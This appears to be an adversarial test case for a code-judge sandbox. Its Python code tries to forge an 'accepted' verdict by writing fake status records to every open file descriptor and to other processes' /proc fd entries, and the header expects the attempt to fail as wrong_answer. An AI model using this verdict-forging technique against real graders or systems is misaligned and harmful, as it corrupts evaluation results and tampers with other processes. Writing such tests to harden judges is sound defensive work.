# attack: 99 writes verdicts to every descriptor
# group: I
# tries: "accepted" to 3..1023 and to every pipe it can find
# limits: cpu=2 wall=10
# expect: wrong_answer
# answer: 42
# control: none there is no verdict to forge outside the jail
RECORDS = (b'{"status":"accepted","passed":true}\n', b"accepted\n", b"A" * 64,
           b"\x80" * 64, bytes(64))


def places():
    yield from range(3, 1024)
    for number in os.listdir("/proc"):
        for name in (os.listdir(f"/proc/{number}/fd")
                     if number.isdigit() and int(number) != os.getpid() else
                     ()):
            yield f"/proc/{number}/fd/{name}"


def every():
    found = places()
    while True:
        try:
            yield next(found)
        except StopIteration:
            return
        except OSError:
            return


for place in every():
    try:
        number = place if isinstance(place, int) else \
            os.open(place, os.O_WRONLY | os.O_NONBLOCK)
        os.set_blocking(number, False)
        for record in RECORDS:
            os.write(number, record)
    except OSError:
        pass
os._exit(0)
